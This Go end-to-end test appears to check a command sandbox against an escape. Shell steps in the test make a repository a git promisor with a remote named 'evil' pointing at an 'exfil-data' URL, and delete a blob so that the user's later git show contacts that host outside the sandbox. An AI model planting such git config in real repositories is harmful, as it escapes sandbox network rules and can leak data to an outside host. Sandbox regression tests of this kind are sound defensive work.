package e2e

import (
	"fmt"
	"net"
	"sync/atomic"
	"testing"
)

// A command makes a repository a promisor (extensions.partialClone, or
// remote.*.promisor alone): the user's plain git show there fetches the
// objects it lacks from the command's URL, outside the sandbox and its
// network rules. A control makes the same planting on the host and sees
// the user's git connect.

// commitEnv gives the command's git an identity.
const commitEnv = `export GIT_AUTHOR_NAME=A GIT_AUTHOR_EMAIL=a@example.com GIT_COMMITTER_NAME=A GIT_COMMITTER_EMAIL=a@example.com; `

func TestEscapeGitPromisor(t *testing.T) {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	var conns atomic.Int32
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			conns.Add(1)
			c.Close()
		}
	}()
	promisor := func(keys string) string {
		// A repository made in the call (a trusted one's config is
		// read-only while calls run), whose file's blob goes, so that
		// git show HEAD there needs it.
		return fmt.Sprintf(commitEnv+`git init -q sub && cd sub && echo x > f && git add f && git commit -qm s &&
b=$(git rev-parse HEAD:f) && rm -f .git/objects/$(echo $b | cut -c1-2)/$(echo $b | cut -c3-) &&
git config core.repositoryformatversion 1 && git config remote.evil.url http://%s/exfil-data && %s`, ln.Addr(), keys)
	}
	fetched := func(e *env) bool { return conns.Swap(0) > 0 }
	for _, tt := range []opStateAttack{
		{name: "a promisor remote made (partialClone)", setup: func(e *env) { e.gitRepo() },
			steps: []string{promisor(`git config extensions.partialClone evil`)},
			user:  [][]string{{"-C", "sub", "show", "HEAD"}}, harmed: fetched},
		{name: "a promisor remote made (remote.*.promisor)", setup: func(e *env) { e.gitRepo() },
			steps: []string{promisor(`git config remote.evil.promisor true && git config remote.evil.partialCloneFilter blob:none`)},
			user:  [][]string{{"-C", "sub", "show", "HEAD"}}, harmed: fetched},
	} {
		t.Run(tt.name, func(t *testing.T) {
			conns.Store(0)
			runOpStateAttack(t, tt)
		})
	}
}
